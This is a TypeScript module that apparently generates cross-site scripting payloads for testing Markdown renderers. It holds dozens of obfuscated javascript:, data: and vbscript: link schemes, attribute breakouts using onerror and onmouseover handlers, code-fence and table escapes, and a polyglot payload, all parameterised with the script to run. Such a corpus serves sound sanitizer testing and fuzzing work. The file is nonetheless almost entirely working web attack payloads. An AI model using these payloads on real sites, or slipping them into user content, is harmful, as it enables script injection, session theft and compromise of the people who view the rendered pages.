import type { Vector } from '../payload.ts'

const ZERO_WIDTH = '\u200b'

/** A scheme that runs what follows it, as a page might fail to see it. */
const SCHEMES: ((run: string) => string)[] = [
  (run) => `javascript:${run}`,
  (run) => `JaVaScRiPt:${run}`,
  (run) => `java\tscript:${run}`,
  (run) => `java&Tab;script:${run}`,
  (run) => `java&NewLine;script:${run}`,
  (run) => `&#106;avascript:${run}`,
  (run) => `&#x6A;&#x61;vascript:${run}`,
  (run) => `&#0000106avascript:${run}`,
  (run) => `javascript&colon;${run}`,
  (run) => `javascript&#58;${run}`,
  (run) => `javascript&#x3a${run}`,
  (run) => `\u0001javascript:${run}`,
  (run) => `&#1;javascript:${run}`,
  (run) => `&#32;javascript:${run}`,
  (run) => `\u00a0javascript:${run}`,
  (run) => `\ufeffjavascript:${run}`,
  (run) => `${ZERO_WIDTH}javascript:${run}`,
  (run) => `java${ZERO_WIDTH}script:${run}`,
  (run) => `java\u00adscript:${run}`,
  (run) => `ｊａｖａｓｃｒｉｐｔ:${run}`,
  (run) => `javascript：${run}`,
  (run) => `javaſcript:${run}`,
  (run) => `%6Aavascript:${run}`,
  (run) => `javascript%3A${run}`,
  (run) => `java\\script:${run}`,
  (run) => `javascript\\:${run}`,
  (run) => `javascript://ok.test/%0A${run}`,
  (run) => `javascript:/*http://ok.test/*/${run}`,
  (run) => `javascript:&#x2f;&#x2f;%0a${run}`,
  (run) => `data:text/html,<script>${run}</script>`,
  (run) => `data:text/html;base64,${btoa(`<script>${run}</script>`)}`,
  (run) => `DATA:text/html;charset=utf-7,+ADw-script+AD4-${run}`,
  (run) => `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>`,
  (run) => `data:application/xhtml+xml,<x xmlns='http://www.w3.org/1999/xhtml' onload='${run}'/>`,
  (run) => `vbscript:${run}`,
  (run) => `VbScRiPt&colon;${run}`,
  (run) => `livescript:${run}`,
  (run) => `mocha:[${run}]`,
  (run) => `jar:javascript:${run}!/`,
  (run) => `view-source:javascript:${run}`,
  (run) => `blob:javascript:${run}`,
  (run) => `filesystem:javascript:${run}`,
  (run) => `feed:javascript:${run}`,
  (run) => `about:blank#javascript:${run}`,
  (run) => `intent:#Intent;S.x=javascript:${run};end`,
  (run) => `http:javascript:${run}`,
  (run) => `//javascript:${run}`,
  (run) => `/javascript:${run}`,
  (run) => `#javascript:${run}`,
  (run) => `?javascript:${run}`,
  (run) => `x:javascript:${run}`,
  (run) => `tel:javascript:${run}`,
  (run) => `mailto:a@b.test?body=<script>${run}</script>`,
]

/** The ways in which Markdown makes a link or something like one. */
const FORMS: ((address: string, n: number) => string)[] = [
  (address, n) => `[link ${n}](${address})`,
  (address, n) => `[link ${n}](<${address}>)`,
  (address, n) => `[link ${n}]( ${address} "title ${n}")`,
  (address, n) => `[link ${n}][r${n}]\n\n[r${n}]: ${address}`,
  (address, n) => `[r${n}][]\n\n[r${n}]: <${address}> 'title'`,
  (address, n) => `[r${n}]\n\n[r${n}]: ${address}\n"title"`,
  (address, n) => `<${address}> ${n}`,
  (address, n) => `![image ${n}](${address})`,
  (address, n) => `[![image ${n}](${address})](${address})`,
  (address, n) => `<a href="${address}">link ${n}</a>`,
  (address, n) => `<a href=${address}>link ${n}</a>`,
  (address, n) => `[**link** ${n}](${address} (title))`,
  (address, n) => `bare ${address} ${n}`,
  (address, n) => `[link\n${n}](${address})`,
  (address, n) => `[^${n}]\n\n[^${n}]: ${address}`,
  (address, n) => `<iframe src="${address}"></iframe> ${n}`,
]

/** Each scheme in each kind of link: the first ones of each, and in the end all pairs. */
export const LINKS: Vector[] = Array.from(
  { length: SCHEMES.length * FORMS.length },
  (_, i) =>
    ({ run, n }) => {
      const link = FORMS[(i + Math.floor(i / SCHEMES.length)) % FORMS.length]!
      return link(SCHEMES[i % SCHEMES.length]!(run), n)
    },
)

/** Ends what a careless page would have put around it. */
export const BREAKOUTS: Vector[] = [
  ({ run, n }) => `[${n}](https://ok.test/"onmouseover="${run}")`,
  ({ run, n }) => `[${n}](https://ok.test/'onmouseover='${run})`,
  ({ run, n }) => `[${n}](https://ok.test/"><img/src=x/onerror=${run}>)`,
  ({ run, n }) => `[${n}](<https://ok.test/"><img src=x onerror=${run}>>)`,
  ({ run, n }) => `[${n}](https://ok.test '"onfocus="${run}"autofocus tabindex=1 x="')`,
  ({ run, n }) => `![" onerror="${run}](https://ok.test/${n})`,
  ({ run, n }) => `!["><img src=x onerror=${run}>](https://ok.test/${n})`,
  ({ run, n }) => `![${n}](https://ok.test/"onload="${run})`,
  ({ run, n }) => `![${n}](https://ok.test/x '"><script>${run}</script>')`,
  ({ run }) => `\`</code><img src=x onerror=${run}>\``,
  ({ run }) => `\`\` \`</code></pre><script>${run}</script> \`\``,
  ({ run }) => `# "><img src=x onerror=${run}>`,
  ({ run }) => `## {#"onmouseover=${run}}`,
  ({ run, n }) => `<https://ok.test/"onmouseover="${run}> ${n}`,
  ({ run, n }) => `https://ok.test/"onmouseover="${run} ${n}`,
  ({ run, n }) => `www.ok.test/${n}"><script>${run}</script>`,
  ({ run, n }) => `a"onclick="${run}"@ok.test ${n}`,
  ({ run, n }) => `<a"onclick="${run}"@ok.test> ${n}`,
  ({ run, n }) => `[r${n}]: https://ok.test/"onclick="${run} "t"\n\n[r${n}]`,
  ({ run, n }) =>
    `[r"><img src=x onerror=${run}>]: https://ok.test/${n}\n\n[r"><img src=x onerror=${run}>]`,
  ({ run, n }) => `[${n}]{onclick="${run}"} ![${n}](x){onerror="${run}"}`,
  ({ run, n }) => `[[${n}|<img src=x onerror=${run}>]] @<img src=x onerror=${run}>`,
  ({ run }) => `:<img src=x onerror=${run}>: ==<img src=x onerror=${run}>==`,
  ({ run, n }) => `[${n}](https://user:<img src=x onerror=${run}>@ok.test)`,
  ({ run, n }) => `[${n}](https://xn--${n}"onclick=${run}.test)`,
  ({ run }) => `\\"><img src=x onerror=${run}>\\`,
  ({ run }) => `</p></div></main></body><script>${run}</script>`,
  ({ run }) => `-->'"/></sCript><deTailS open x=">" ontoggle=${run}>`,
  ({ run }) =>
    `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */onerror=${run} )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${run}//>\\x3e`,
]

const NAMES = ['html', 'js', 'markdown', 'vue', 'diff', 'css', 'xml', 'php', 'sh', 'svg', 'json']

/** Blocks of code: their first lines, what is in them, and how they end. */
export const FENCES: Vector[] = [
  ...NAMES.map<Vector>(
    (name) =>
      ({ run }) =>
        `\`\`\`${name}\n</code></pre><img src=x onerror=${run}>\n"${run}" // <script>${run}</script>\n\`\`\``,
  ),
  ({ run, n }) => `\`\`\`"><img/src=x/onerror=${run}>\n${n}\n\`\`\``,
  ({ run, n }) => `\`\`\`html "onmouseover="${run}\n${n}\n\`\`\``,
  ({ run, n }) => `\`\`\`js {1,"><script>${run}</script>}\n${n}\n\`\`\``,
  ({ run, n }) => `\`\`\`' onclick='${run}\n${n}\n\`\`\``,
  ({ run, n }) => `\`\`\`&quot;&gt;&lt;img/src=x/onerror=${run}&gt;\n${n}\n\`\`\``,
  ({ run }) => `~~~\n<script>${run}</script>\n~~~`,
  ({ run, n }) => `~~~ <img src=x onerror=${run}>\n${n}\n~~~`,
  ({ run }) => `\`\`\`\`md\n\`\`\`html\n<script>${run}</script>\n\`\`\`\n\`\`\`\``,
  ({ run }) => `\`\`\`\n\`\`\`\n<script>${run}</script>\n\`\`\``,
  ({ run }) => `\`\`\`\n<script>${run}</script>`,
  ({ run }) => `- \`\`\`\n  x\n<script>${run}</script>\n  \`\`\``,
  ({ run }) => `> \`\`\`\n<script>${run}</script>\n> \`\`\``,
  ({ run }) => `\`\`\`\n\`\`\` <img src=x onerror=${run}>\n\`\`\``,
  ({ run }) => `    <script>\n    ${run}\n    </script>`,
  ({ run }) => `\t<img src=x onerror=${run}>`,
  ({ run }) => `<pre><code class="language-js"><img src=x onerror=${run}></code></pre>`,
  ({ run }) => `\`\`\`js\n\${\`\${${run}}\`}\n\`\`\``,
  ({ run }) => `\`\`\`html\n<!--\n--><script>${run}</script><!--\n\`\`\``,
]

/** Tables, whose heads are spoken, too. */
export const TABLES: Vector[] = [
  ({ run, n }) => `| <img src=x onerror=${run}> | b |\n|---|---|\n| ${n} | d |`,
  ({ run, n }) => `| "onfocus="${run}" tabindex=1 autofocus x=" |\n|---|\n| ${n} |`,
  ({ run }) => `| a |\n|---|\n| </td></tr></table><img src=x onerror=${run}> |`,
  ({ run }) => `| a | b |\n|:-:|--:|\n| \`\\|<img src=x onerror=${run}>\` | x \\| y |`,
  ({ run, n }) => `| a |\n|---|\n| [${n}](javascript:${run}) |`,
  ({ run }) => `| a |\n|---|\n| <br onclick="${run}"> <br/onclick=${run}> |`,
  ({ run }) => `| a |\n|---|\n| <svg onload=${run}> | too | many |`,
  ({ run }) => `<script>${run}</script> | b\n---|---\nc | d`,
  ({ run }) => `| a |\n|---|\n<img src=x onerror=${run}>`,
  ({ run }) => `<table><tr><td onmouseover="${run}">x</td></tr></table>`,
  ({ run, n }) => `| a |\n|---|\n| ![${n}](javascript:${run}) <a href=javascript:${run}>x</a> |`,
]
